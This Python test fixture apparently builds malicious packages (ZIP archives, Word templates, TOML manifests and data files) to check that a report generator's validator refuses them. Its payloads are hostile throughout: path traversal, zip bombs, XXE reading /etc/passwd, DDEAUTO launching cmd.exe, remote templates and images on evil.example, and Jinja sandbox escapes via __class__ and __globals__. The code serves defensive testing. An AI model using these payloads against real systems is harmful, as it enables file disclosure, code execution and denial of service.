"""Packs and data files that mean harm, each packed with right checksums, and the reason for which each is refused."""

import io
import struct
import zipfile
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass

from perfgen.install import Contents, bundle
from perfgen.install.package import sums
from tests.support.report import DATA, MANIFEST

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
V = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml."
PNG = b"\x89PNG\r\n\x1a\n"

HARMLESS = ""


@dataclass(frozen=True)
class Attack:
    """One attack: what it tries, the file, and a part of the reason for its refusal (empty: it does no harm)."""

    name: str
    make: Callable[[], bytes]
    reason: str
    linting: bool = False
    """Whether it takes the linter to see it: what is wrong shows only where a formula is evaluated."""


# -- building ----------------------------------------------------------------------------------------


def paragraph(text: str) -> str:
    return f'<w:p><w:r><w:t xml:space="preserve">{text}</w:t></w:r></w:p>'


def word(
    body: str = "",
    *,
    parts: Mapping[str, bytes | str] | None = None,
    types: Mapping[str, str] | None = None,
    defaults: Mapping[str, str] | None = None,
    links: str = "",
    main: str = TYPE + "document.main+xml",
    document: bytes | None = None,
    stored: bool = False,
) -> bytes:
    """A Word file of a few lines with whatever is put into it."""
    overrides = {"/word/document.xml": main, **(types or {})}
    endings = {"rels": "application/vnd.openxmlformats-package.relationships+xml", "xml": "application/xml"}
    listed = "".join(
        f'<Default Extension="{e}" ContentType="{t}"/>' for e, t in {**endings, **(defaults or {})}.items()
    )
    listed += "".join(f'<Override PartName="{p}" ContentType="{t}"/>' for p, t in overrides.items())
    files: dict[str, bytes | str] = {
        "[Content_Types].xml": f'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">{listed}</Types>',
        "_rels/.rels": relationships(f'<Relationship Id="r1" Type="{KIND}officeDocument" Target="word/document.xml"/>'),
        "word/document.xml": document
        or f"<w:document {W} {R} {V}><w:body>{body or paragraph('{{ 单位.名称 }}')}</w:body></w:document>",
        "word/_rels/document.xml.rels": relationships(links),
        **(parts or {}),
    }
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0)), data, archive.compression)
    return made.getvalue()


def relationships(links: str) -> str:
    return (
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{links}</Relationships>'
    )


def link(kind: str, target: str, *, external: bool = True) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="r9" Type="{KIND}{kind}" Target="{target}"{mode}/>'


def field(*pieces: str) -> str:
    """A complex field whose code is in so many runs."""
    code = "".join(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in pieces)
    return f"<w:p>{sign('begin')}{code}{sign('separate')}<w:r><w:t>1</w:t></w:r>{sign('end')}</w:p>"


def sign(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def contents(
    files: Mapping[str, bytes] | None = None, *, data: Mapping[str, bytes] | None = None, template: bytes | None = None
) -> Contents:
    """The benign pack with some files put in or replaced."""
    plain = {
        "manifest.toml": MANIFEST.encode(),
        "sample.toml": DATA.encode(),
        "report.docx": word() if template is None else template,
    }
    return Contents({**plain, **(files or {})}, data or {})


def packed(
    files: Mapping[str, bytes] | None = None, *, data: Mapping[str, bytes] | None = None, template: bytes | None = None
) -> bytes:
    return bundle(contents(files, data=data, template=template))


def tagged(*texts: str) -> bytes:
    return packed(template=word("".join(map(paragraph, texts))))


def manifest(old: str = "", new: str = "", more: str = "") -> bytes:
    assert not old or old in MANIFEST
    return packed({"manifest.toml": (MANIFEST.replace(old, new, 1) + more).encode()})


def filled(text: str | bytes) -> bytes:
    """A 填报包 with one data file."""
    return packed(data={"青溪镇.toml": text if isinstance(text, bytes) else text.encode()})


def data_file(old: str, new: str) -> bytes:
    assert old in DATA
    return filled(DATA.replace(old, new, 1))


def zipped(entries: Mapping[str, bytes], change: Callable[[zipfile.ZipInfo], None] | None = None) -> bytes:
    """A ZIP of ``entries`` and right checksums, with names that our own writer would not take."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        for name, data in {"SHA256SUMS": sums(dict(entries)), **entries}.items():
            info = zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0))
            info.create_system = 3
            info.external_attr = 0o100644 << 16
            if change is not None:
                change(info)
            archive.writestr(info, data)
    return made.getvalue()


def named(*names: str) -> Callable[[], bytes]:
    """The benign pack with more files of these names."""
    return lambda: zipped({**contents().files, **dict.fromkeys(names, b"x")})


def special(kind: int) -> Callable[[], bytes]:
    """The benign pack with a note that says of itself that it is a link, a pipe, a device."""

    def change(info: zipfile.ZipInfo) -> None:
        if info.filename == "note.txt":
            info.external_attr = (kind | 0o777) << 16

    return lambda: zipped({**contents().files, "note.txt": b"/etc/passwd"}, change)


def patched(change: Callable[[bytearray, int, int], None]) -> Callable[[], bytes]:
    """The benign pack with bytes changed: given are the bytes and the places of manifest.toml's two headers."""

    def make() -> bytes:
        data = bytearray(packed())
        local = data.index(b"manifest.toml", data.index(b"PK\3\4", data.index(MANIFEST.encode()[:20]) - 100)) - 30
        central = data.index(b"manifest.toml", data.index(b"PK\1\2")) - 46
        change(data, local, central)
        return bytes(data)

    return make


def put(data: bytearray, at: int, form: str, *values: int) -> None:
    data[at : at + struct.calcsize(form)] = struct.pack(form, *values)


# -- the file ----------------------------------------------------------------------------------------


def _two_with_one_name() -> bytes:
    data = named("note1.txt", "note2.txt")()
    return data.replace(b"note2.txt", b"note1.txt")


def _bomb() -> bytes:
    made = io.BytesIO()
    entries = {**contents().files, "note.txt": bytes(4 * 1024**2)}
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in {"SHA256SUMS": sums(dict(entries)), **entries}.items():
            archive.writestr(name, data)
    return made.getvalue()


def _liar() -> bytes:
    """A file that unpacks to more than its directory says."""
    made = io.BytesIO()
    entries = {**contents().files, "note.txt": bytes(1000)}
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in {"SHA256SUMS": sums(dict(entries)), **entries}.items():
            archive.writestr(name, data)
    data = bytearray(made.getvalue())
    put(data, data.rindex(b"note.txt") - 46 + 24, "<L", 10)
    return bytes(data)


def _bzipped() -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_BZIP2) as archive:
        for name, data in {"SHA256SUMS": sums(dict(contents().files)), **contents().files}.items():
            archive.writestr(name, data)
    return made.getvalue()


def _gap() -> bytes:
    data = bytearray(packed())
    directory, end = data.index(b"PK\1\2"), data.rindex(b"PK\5\6")
    data[directory:directory] = b"MZ hidden program"
    put(data, end + 17 + 16, "<L", directory + 17)
    return bytes(data)


def _with_sums(change: Callable[[bytes], bytes]) -> Callable[[], bytes]:
    def make() -> bytes:
        files = dict(contents().files)
        made = io.BytesIO()
        with zipfile.ZipFile(made, "w") as archive:
            for name, data in {"SHA256SUMS": change(sums(files)), **files}.items():
                archive.writestr(name, data)
        return made.getvalue()

    return make


def _without_sums() -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        for name, data in contents().files.items():
            archive.writestr(name, data)
    return made.getvalue()


def _without(name: str) -> bytes:
    return zipped({key: data for key, data in contents().files.items() if key != name})


def _encrypted(data: bytearray, local: int, central: int) -> None:
    put(data, local + 6, "<H", 1)
    put(data, central + 8, "<H", 1)


def _overlap(data: bytearray, local: int, central: int) -> None:
    put(data, central + 42, "<L", struct.unpack_from("<L", data, central + 42)[0] - 40)


def _other_name(data: bytearray, local: int, central: int) -> None:
    data[local + 30 : local + 43] = b"../../etc/abc"


def _not_utf8(data: bytearray, local: int, central: int) -> None:
    for at in (local + 30, central + 46):
        data[at : at + 13] = "清单".encode("gbk").ljust(13, b"x")


def archives() -> Iterator[Attack]:
    """What the archive itself can do."""
    yield Attack("a path out of the folder", named("../evil.txt"), "会写到文件夹外面")
    yield Attack("a path out, in the middle", named("data/../../evil.toml"), "会写到文件夹外面")
    yield Attack("full-width dots", named("．．/evil.txt"), "会写到文件夹外面")
    yield Attack("an absolute path", named("/etc/evil.txt"), "从根开始")
    yield Attack("the home folder", named("~/evil.txt"), "从根开始")
    yield Attack("a drive letter", named("C:evil.txt"), "盘符")
    yield Attack("backslashes", named("..\\evil.txt"), "反斜杠")
    yield Attack("a second stream of a file", named("report.docx:evil.txt"), "Windows 不许用的字符")
    yield Attack("two names alike but for case", named("Report.docx"), "在有的系统上是同一个")
    yield Attack(
        "two names alike but for composition", named("caf\u00e9.txt", "cafe\u0301.txt"), "NFC|在有的系统上是同一个"
    )
    yield Attack("a decomposed name", named("cafe\u0301.txt"), "NFC")
    yield Attack("two names alike but for width", named("ａ.txt", "a.txt"), "在有的系统上是同一个")
    yield Attack("one name twice", _two_with_one_name, "两次写了同一个文件")
    yield Attack("a device of Windows", named("CON.txt"), "Windows 保留")
    yield Attack("a device with superscript", named("COM¹.docx"), "Windows 保留")
    yield Attack("a trailing dot", named("evil.txt."), "空格或点")
    yield Attack("a trailing blank", named("evil.txt "), "空格或点")
    yield Attack("a name that reads backwards", named("evil\u202etxt.docx"), "看不见的字符")
    yield Attack("a line end in a name", named("evil\n.txt"), "看不见的字符")
    yield Attack("a name too long", named("长" * 80 + ".txt"), "太长")
    yield Attack("a folder", named("images/a.txt"), "不能有文件夹")
    yield Attack("a hidden file", named(".bashrc"), "隐藏的文件")
    yield Attack("bytecode", named("report.pyc"), "缓存")
    yield Attack("a compiled template", named("0a.template"), "缓存")
    yield Attack("records of outputs", named(".perfgen/甲.json"), "缓存")
    yield Attack("a program", named("setup.exe"), "用不到的文件")
    yield Attack("a macro file", named("report.docm"), "用不到的文件")
    yield Attack("a link", special(0xA000), "是一个链接")
    yield Attack("a pipe", special(0x1000), "不是普通文件")
    yield Attack("a device", special(0x2000), "不是普通文件")
    yield Attack("too many files", lambda: zipped({f"{n}.txt": b"" for n in range(450)}), "超过 400 个")
    yield Attack("a zip bomb", _bomb, "压缩炸弹")
    yield Attack("more than it says", _liar, "坏了|大小与目录")
    yield Attack("a rare compression", _bzipped, "压缩方法")
    yield Attack("a password", patched(_encrypted), "加了密码")
    yield Attack("files over each other", patched(_overlap), "重叠|坏了")
    yield Attack("two names for one file", patched(_other_name), "坏了")
    yield Attack("a name in another encoding", patched(_not_utf8), "UTF-8")
    yield Attack("something before", lambda: b"#!/bin/sh\n" + packed(), "不是压缩包")
    yield Attack("something behind", lambda: packed() + b"MZ", "后面还接着")
    yield Attack("something between", _gap, "夹着|对不上")
    yield Attack("a wrong checksum", _with_sums(lambda text: b"0" * 64 + text[64:]), "和校验值不一致")
    yield Attack("no checksums", _without_sums, "缺少校验文件")
    yield Attack("checksums of something else", _with_sums(lambda text: text + b"0" * 64 + b"  gone.txt\n"), "缺少文件")
    yield Attack("a file without checksum", _with_sums(lambda text: text.split(b"\n", 1)[1]), "多出文件")
    yield Attack("unreadable checksums", _with_sums(lambda text: b"\xff" + text), "读不懂")
    yield Attack("cut off", lambda: packed()[:-40], "没有传完整|对不上")
    yield Attack("no archive at all", lambda: b"\xd0\xcf\x11\xe0" + bytes(1000), "不是压缩包")
    yield Attack("no sample", lambda: _without("sample.toml"), "缺少 sample.toml")
    yield Attack("a large manifest", lambda: packed({"manifest.toml": b"#" * 1024**2 + b"##"}), "超过 1 MB")


# -- the Word file -----------------------------------------------------------------------------------


def embedded(name: str, kind: str, content: bytes | str = b"x", *, relation: str = "") -> Callable[[], bytes]:
    """The benign pack with one more part in its Word file."""
    links = link(relation, name.removeprefix("word/"), external=False) if relation else ""
    return lambda: packed(template=word(parts={name: content}, types={f"/{name}": kind}, links=links))


def linked(kind: str, target: str) -> Callable[[], bytes]:
    return lambda: packed(template=word(links=link(kind, target)))


def body(xml: str) -> Callable[[], bytes]:
    return lambda: packed(template=word(paragraph("{{ 单位.名称 }}") + xml))


def document(xml: bytes | str) -> Callable[[], bytes]:
    return lambda: packed(template=word(document=xml if isinstance(xml, bytes) else xml.encode()))


LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>'
    f"<w:document {W}><w:body><w:p><w:r><w:t>&d;</w:t></w:r></w:p></w:body></w:document>"
)
OUTER = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    f"<w:document {W}><w:body><w:p><w:r><w:t>&a;</w:t></w:r></w:p></w:body></w:document>"
)
STYLES = f'<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY a "b">]><w:styles {W}/>'.encode("utf-16")
NESTED = (
    f"<w:p>{sign('begin')}{sign('begin')}<w:r><w:instrText>REF x</w:instrText></w:r>{sign('end')}"
    f"<w:r><w:instrText> c:\\x</w:instrText></w:r>{sign('separate')}{sign('end')}</w:p>"
)
VISIBLE = f"<w:p>{sign('begin')}<w:r><w:t>DDEAUTO c:\\\\x</w:t></w:r>{sign('separate')}{sign('end')}</w:p>"
STRAY = "<w:p><w:r><w:instrText>DDE x</w:instrText></w:r></w:p>"


def word_files() -> Iterator[Attack]:
    """What a Word file can do beside showing text."""
    yield Attack("macros", embedded("word/vbaProject.bin", "application/vnd.ms-office.vbaProject"), "有宏")
    yield Attack(
        "a macro file under another name",
        lambda: packed(template=word(main="application/vnd.ms-word.document.macroEnabled.main+xml")),
        "有宏",
    )
    yield Attack("macro data", embedded("word/vbaData.xml", "application/vnd.ms-word.vbaData+xml"), "有宏")
    yield Attack("ActiveX", embedded("word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml"), "ActiveX")
    yield Attack("a control in the text", body('<w:p><w:r><w:control r:id="r1"/></w:r></w:p>'), "ActiveX")
    yield Attack(
        "an OLE object",
        embedded("word/embeddings/oleObject1.bin", "application/vnd.openxmlformats-officedocument.oleObject"),
        "嵌入了别的文件",
    )
    yield Attack(
        "an embedded workbook",
        embedded(
            "word/embeddings/a.xlsx",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
            relation="package",
        ),
        "嵌入了别的文件",
    )
    yield Attack(
        "an OLE link in the text",
        body('<w:p><w:r><w:object><o:OLEObject Type="Link" ProgID="Excel.Sheet" r:id="r1"/></w:object></w:r></w:p>'),
        "嵌入了别的文件",
    )
    yield Attack("altChunk of HTML", embedded("word/a.html", "text/html", relation="aFChunk"), "altChunk")
    yield Attack("altChunk in the text", body('<w:altChunk r:id="r1"/>'), "altChunk")
    yield Attack("a second body as altChunk", embedded("word/b.xml", TYPE + "document.main+xml", "<a/>"), "两份正文")
    yield Attack("a sub-document", body('<w:p><w:subDoc r:id="r1"/></w:p>'), "子文档")
    yield Attack("a template elsewhere", linked("attachedTemplate", "http://evil.example/a.dotm"), "外部的模板")
    yield Attack(
        "a template elsewhere, in the settings",
        embedded(
            "word/settings.xml",
            TYPE + "settings+xml",
            f'<w:settings {W} {R}><w:attachedTemplate r:id="a"/></w:settings>',
        ),
        "外部的模板",
    )
    yield Attack("a picture elsewhere", linked("image", "http://evil.example/a.png"), "外部的图片")
    yield Attack("a picture on a server", linked("image", "file://evil/share/a.png"), "外部的图片")
    yield Attack("a link to a file", linked("hyperlink", "file:///c:/windows/system32/calc.exe"), "超链接")
    yield Attack("a link to a server", linked("hyperlink", "\\\\evil\\share\\a.docx"), "超链接")
    yield Attack("a link to a page", linked("hyperlink", "https://evil.example/"), "超链接")
    yield Attack("a frame elsewhere", linked("frame", "http://evil.example/a.htm"), "文件以外")
    yield Attack(
        "a link out that says it stays inside",
        lambda: packed(template=word(links=link("image", "\\\\evil\\a.png", external=False))),
        "文件以外",
    )
    yield Attack(
        "an address that says it stays inside",
        lambda: packed(template=word(links=link("header", "http://evil.example/h.xml", external=False))),
        "文件以外",
    )
    yield Attack(
        "a part out of the file",
        lambda: packed(template=word(links=link("header", "../../../secret.xml", external=False))),
        "没有的东西",
    )
    yield Attack(
        "a path out within the Word file",
        lambda: packed(template=word(parts={"word/../../e.xml": "<a/>"})),
        "文件夹外面",
    )
    yield Attack(
        "a picture by address",
        body('<w:p><w:r><w:pict><v:shape><v:imagedata src="http://evil/a"/></v:shape></w:pict></w:r></w:p>'),
        "外部的地址",
    )
    yield Attack(
        "a shape with a link",
        body('<w:p><w:r><w:pict><v:shape href="file:///c:/x"/></w:pict></w:r></w:p>'),
        "外部的地址",
    )
    yield Attack("entities that multiply", document(LAUGHS), "实体")
    yield Attack("an entity from a file", document(OUTER), "实体")
    yield Attack("entities in another encoding", embedded("word/styles.xml", TYPE + "styles+xml", STYLES), "实体")
    yield Attack(
        "a processing instruction",
        document(f'<?xml-stylesheet href="http://evil/a.xsl"?><w:document {W}><w:body/></w:document>'),
        "处理指令",
    )
    yield Attack(
        "an encoding that hides",
        document(f'<?xml version="1.0" encoding="UTF-7"?><w:document {W}><w:body/></w:document>'),
        "编码|XML",
    )
    yield Attack("INCLUDEPICTURE", body(field('INCLUDEPICTURE "http://evil/a.png" \\d')), "INCLUDEPICTURE")
    yield Attack("INCLUDETEXT in pieces", body(field(" INC", "LUDE", 'TEXT "c:\\\\secret.docx"')), "INCLUDETEXT")
    yield Attack("DDEAUTO", body(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')), "DDEAUTO")
    yield Attack("DDE in a simple field", body('<w:p><w:fldSimple w:instr=" dde cmd x"/></w:p>'), "dde")
    yield Attack("LINK", body(field("LINK Excel.Sheet c:\\\\a.xls")), "LINK")
    yield Attack("DATABASE", body(field('DATABASE \\c "DSN=x"')), "DATABASE")
    yield Attack("a field link to a page", body(field('HYPERLINK "http://evil.example"')), "HYPERLINK")
    yield Attack("a field link behind a jump", body(field('HYPERLINK \\l "a" "http://evil.example"')), "HYPERLINK")
    yield Attack("a field made of a field", body(NESTED), "域里套的域")
    yield Attack("a code written as text", body(VISIBLE), "DDEAUTO")
    yield Attack("a code without its field", body(STRAY), "DDE")
    yield Attack("a code that the data fills", body(field("REF {{ 单位.名称 }}")), "域“")
    yield Attack("the clerk's name and folder", body(field("FILENAME \\p")), "FILENAME")
    yield Attack(
        "a field in the building blocks",
        embedded("word/glossary.xml", TYPE + "document.glossary+xml", f"<w:a {W}>{field('DDE x')}</w:a>"),
        "DDE",
    )
    yield Attack(
        "a tag in an attribute", body('<w:p><w:bookmarkStart w:id="0" w:name="{{ 单位.名称 }}"/></w:p>'), "属性里"
    )
    yield Attack(
        "a data source",
        embedded("word/settings.xml", TYPE + "settings+xml", f"<w:s {W}><w:mailMerge/></w:s>"),
        "邮件合并",
    )
    yield Attack(
        "frames", embedded("word/webSettings.xml", TYPE + "webSettings+xml", f"<w:s {W}><w:frameset/></w:s>"), "框架页"
    )
    yield Attack(
        "an embedded font",
        embedded("word/fonts/f.odttf", "application/vnd.openxmlformats-officedocument.obfuscatedFont"),
        "嵌入了字体",
    )
    yield Attack(
        "a picture that is none",
        lambda: packed(template=word(parts={"word/media/a.png": b"MZ"}, defaults={"png": "image/png"})),
        "图片不是",
    )
    yield Attack("a vector picture", embedded("word/media/a.emf", "image/x-emf"), "用不到的部件")
    yield Attack("something unknown", lambda: packed(template=word(parts={"word/a.bin": b"x"})), "用不到的部件")
    yield Attack(
        "a Word template", lambda: packed(template=word(main=TYPE + "template.main+xml")), "dotx|两份正文|没有正文"
    )
    yield Attack("elements in elements", body("<w:p>" * 300 + "</w:p>" * 300), "嵌套太深")
    yield Attack(
        "a bomb as a part",
        lambda: packed(template=word(parts={"customXml/a.xml": b" " * 8 * 1024**2})),
        "压缩炸弹|超过",
    )
    yield Attack(
        "a huge part",
        lambda: packed(template=word(parts={"customXml/a.xml": b" " * 5 * 1024**2}, stored=True)),
        "超过 4 MB",
    )
    yield Attack("an old Word file", lambda: packed(template=b"\xd0\xcf\x11\xe0" + bytes(4000)), "不是压缩包|旧格式")
    yield Attack(
        "macros in a file that no document uses",
        lambda: packed(
            {
                "other.docx": word(
                    parts={"word/vbaProject.bin": b"x"}, defaults={"bin": "application/vnd.ms-office.vbaProject"}
                )
            }
        ),
        "other.docx.*有宏",
    )


# -- what is written in the template -------------------------------------------------------------------


def tags() -> Iterator[Attack]:
    """What tags can do beside printing figures."""
    yield Attack("a range", lambda: tagged("{% for i in range(1000000000) %}x{% endfor %}"), "range")
    yield Attack("text a billion times", lambda: tagged("{{ 'a' * 1000000000 }}"), "加减乘只能用于数")
    yield Attack(
        "text that doubles",
        lambda: tagged("{% set a = '甲' %}" + "{% set a = a + a %}" * 60 + "{{ a }}"),
        "加减乘只能用于数",
    )
    yield Attack("text joined by ~", lambda: tagged("{{ 'a' ~ 'b' }}"), "~")
    yield Attack("a text method", lambda: tagged("{{ 'a'.ljust(1000000000) }}"), "ljust")
    yield Attack(
        "a text method by another name", lambda: tagged("{% set f = 'a'.ljust %}{{ f(1000000000) }}"), "不允许的事"
    )
    yield Attack("a text format", lambda: tagged("{% set f = '{:>1000000000}'.format %}{{ f(1) }}"), "不允许的事")
    yield Attack(
        "a number without end", lambda: tagged("{% set a = 99 %}" + "{% set a = a * a %}" * 60 + "{{ a }}"), "太大"
    )
    yield Attack("a power", lambda: tagged("{{ 9 ** 999999999 }}"), "\\*\\*")
    yield Attack("a huge exponent", lambda: tagged("{{ 1e999999999 }}"), "大得不正常")
    yield Attack(
        "loops in loops", lambda: tagged(*["{%p for a in 指标 %}"] * 20, "x", *["{%p endfor %}"] * 20), "层以上的循环"
    )
    yield Attack(
        "loops over all measure",
        lambda: packed(
            {"sample.toml": many_rows(120).encode()},
            template=word("".join(map(paragraph, [*["{%p for a in 指标 %}"] * 4, "x", *["{%p endfor %}"] * 4]))),
        ),
        "循环的次数太多",
    )
    yield Attack("the class of a value", lambda: tagged("{{ 单位.__class__.__mro__ }}"), "下划线")
    yield Attack("the class by index", lambda: tagged("{{ 单位['__class__'] }}"), "下划线")
    yield Attack("the class by filter", lambda: tagged("{{ 单位 | attr('__class__') }}"), "attr")
    yield Attack("the globals of a word", lambda: tagged("{{ 万元.__globals__ }}"), "下划线")
    yield Attack("an include", lambda: tagged("{% include '/etc/passwd' %}"), "include")
    yield Attack("an import", lambda: tagged("{% import 'os' as os %}"), "import")
    yield Attack("an extends", lambda: tagged("{% extends 'x' %}"), "extends")
    yield Attack(
        "a macro that calls itself", lambda: tagged("{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}"), "macro"
    )
    yield Attack("a call block", lambda: tagged("{% call f() %}x{% endcall %}"), "call")
    yield Attack("raw XML", lambda: tagged("{{ '&lt;w:altChunk/>' | safe }}"), "safe")
    yield Attack("lorem ipsum", lambda: tagged("{{ lipsum(100000) }}"), "lipsum")
    yield Attack("a namespace", lambda: tagged("{% set n = namespace(a=1) %}"), "namespace")
    yield Attack("our own names", lambda: tagged("{{ perfgen_each(指标) }}"), "perfgen_each")
    yield Attack("another meaning for 有", lambda: tagged("{% set 有 = 1 %}"), "换了别的意思")
    yield Attack("brackets in brackets", lambda: tagged("{{ " + "(" * 900 + "1" + ")" * 900 + " }}"), "嵌套太深")
    yield Attack("ifs in ifs", lambda: tagged("{% if 1 %}" * 200 + "x" + "{% endif %}" * 200), "嵌套得?太深")
    yield Attack("a tag without end", lambda: tagged("{{ " + "甲.乙" * 2000 + " }}"), "太长")
    yield Attack("thousands of tags", lambda: tagged("{{ 年度 }}" * 3200), "超过 3000 个")
    yield Attack("openings without end", lambda: tagged("{{" * 20000), "标签太多")
    yield Attack("statements without end", lambda: tagged("{%" * 20000), "标签太多")
    yield Attack("numbers without end", lambda: tagged("1.1." * 40000 + "{{ 年度 }}"), HARMLESS)


def many_rows(count: int) -> str:
    rows = "".join(
        f'[["指标"]]\n"一级指标" = "满意度指标"\n"三级指标" = "甲{number}"\n"指标值" = "有效"\n'
        '"分值" = 0\n"得分" = 0\n"定性档" = "达成"\n'
        for number in range(count)
    )
    return DATA.replace('["事实"]', rows + '["事实"]')


# -- the manifest --------------------------------------------------------------------------------------


FILE_NAME = '"文件名" = "{{ 单位.简称 }}-{{ 年度 }}"'
FORMULA = '"式" = "(预算执行.年度资金总额.全年预算数 - 年初预算.支出) / 年初预算.支出"'


def formula(text: str) -> Callable[[], bytes]:
    """The benign pack with another formula; where it can be read at all, the Word file prints it."""
    text = MANIFEST.replace(FORMULA, f"\"式\" = '''{text}'''")
    return lambda: packed({"manifest.toml": text.encode()}, template=word(paragraph("{{ 预算调整率 }}")))


def manifests() -> Iterator[Attack]:
    """What a manifest can do."""
    yield Attack("lists in lists", lambda: manifest(more='\n"甲" = ' + "[" * 20000 + "]" * 20000), "manifest.toml")
    yield Attack("tables in tables", lambda: manifest(more="\n[" + ".".join(["a"] * 20000) + "]\n"), "manifest.toml")
    yield Attack("a number beyond measure", lambda: manifest('"满分" = 100', '"满分" = 1e999999999'), "manifest.toml")
    yield Attack(
        "a number of many digits", lambda: manifest('"满分" = 100', '"满分" = ' + "9" * 20000), "manifest.toml"
    )
    yield Attack("no number", lambda: manifest('"满分" = 100', '"满分" = nan'), "manifest.toml")
    yield Attack("a key without end", lambda: manifest(more=f'\n"{"长" * 100000}" = 1\n'), "manifest.toml")
    yield Attack("a report out of the folder", lambda: manifest(FILE_NAME, '"文件名" = "../../{{ 年度 }}"'), "文件名")
    yield Attack("a report on a drive", lambda: manifest(FILE_NAME, '"文件名" = "C:evil"'), "盘符")
    yield Attack("a report that is a device", lambda: manifest(FILE_NAME, '"文件名" = "CON"'), "保留")
    yield Attack("a template out of the folder", lambda: manifest('"report.docx"', '"../../secret.docx"'), "模板文件")
    yield Attack("an id that is a path", lambda: manifest('"编号" = "test"', '"编号" = "../test"'), "编号")
    yield Attack("a version that is a path", lambda: manifest('"版本" = "2024.1"', '"版本" = "../1"'), "版本")
    yield Attack("a version of dots", lambda: manifest('"版本" = "2024.1"', '"版本" = ".."'), "版本")
    yield Attack("a formula with a power", formula("9 ** 9 ** 9"), "\\*\\*")
    yield Attack("a formula that grows", formula(" * ".join(["99999999"] * 40)), "太大", linting=True)
    yield Attack("a formula too long", formula("年度 + " * 1000 + "1"), "太长")
    yield Attack("a formula too deep", formula("(" * 400 + "1" + ")" * 400), "太深|写法不对")
    yield Attack("a formula that looks inside", formula("单位.__class__"), "下划线")
    yield Attack("a formula that calls", formula("单位.名称.ljust(9999999999)"), "ljust", linting=True)
    yield Attack("a formula about itself", formula("预算调整率 + 1"), "自己|循环|绕")
    yield Attack("a newer format", lambda: manifest('"格式版本" = 1', '"格式版本" = 99'), "升级")
    yield Attack(
        "a sample of another pack",
        lambda: packed({"sample.toml": DATA.replace('"test"', '"xuwen"').encode()}),
        "不是这个模板",
    )
    yield Attack(
        "a file name without end",
        lambda: manifest(FILE_NAME, '"文件名" = "' + "{{" * 20000 + '"'),
        "没有配对|配对|写法|太长",
    )
    yield Attack("a thousand headings", lambda: manifest(more=headings(1500)), HARMLESS)


def headings(count: int) -> str:
    return "".join(f'\n[["提纲"]]\n"键" = "多{n}"\n"标题" = "多{n}"\n"级" = 2\n' for n in range(count))


# -- data files ----------------------------------------------------------------------------------------


def _doubling(steps: int) -> str:
    lines = ['"甲0" = "哈哈哈哈哈哈哈哈"'] + [
        f'"甲{n}" = "{{{{ 事实.甲{n - 1} }}}}{{{{ 事实.甲{n - 1} }}}}"' for n in range(1, steps)
    ]
    return DATA.replace('["事实"]', '["事实"]\n' + "\n".join(lines))


def data_files() -> Iterator[Attack]:
    """What a data file can do."""
    amount = '"基本支出" = 70'
    yield Attack(
        "data: lists in lists", lambda: data_file(amount, '"基本支出" = ' + "[" * 20000 + "]" * 20000), "data/"
    )
    yield Attack("data: a number beyond measure", lambda: data_file(amount, '"基本支出" = 1e999999999'), "data/")
    yield Attack("data: infinity", lambda: data_file(amount, '"基本支出" = inf'), "data/")
    yield Attack("data: a number of many digits", lambda: data_file(amount, '"基本支出" = ' + "9" * 50000), "data/")
    yield Attack("data: a key without end", lambda: data_file(amount, f'{amount}\n"{"长" * 100000}" = 1'), "太长")
    yield Attack("data: a dotted key without end", lambda: data_file(amount, f"{amount}\n{'a.' * 20000}a = 1"), "data/")
    yield Attack("data: a power", lambda: data_file(amount, '"基本支出" = "{{ 9 ** 999999999 }}"'), "\\*\\*")
    yield Attack(
        "data: products without end",
        lambda: data_file(amount, '"基本支出" = "{{ ' + "9999999 * " * 40 + '9 }}"'),
        "太大",
    )
    yield Attack(
        "data: the class of a value", lambda: data_file(amount, '"基本支出" = "{{ 单位.__class__ }}"'), "下划线"
    )
    yield Attack("data: a statement", lambda: data_file("辖区山多", "{% for a in 指标 %}甲{% endfor %}"), "表达式|%")
    yield Attack(
        "data: a circle", lambda: data_file(amount, '"基本支出" = "{{ 决算.支出.基本支出 + 1 }}"'), "自己|循环|绕|合计"
    )
    yield Attack("data: text that doubles", lambda: filled(_doubling(60)), "data/")
    yield Attack("data: openings without end", lambda: data_file("辖区山多", "{{" * 4500), "配对|太长|写法")
    yield Attack("data: closings without end", lambda: data_file("辖区山多", "}}" * 4500), "配对")
    yield Attack("data: blanks without end", lambda: data_file("辖区山多", " " * 9000 + "甲"), HARMLESS)
    yield Attack("data: digits without end", lambda: data_file("辖区山多", "1" * 9000), HARMLESS)
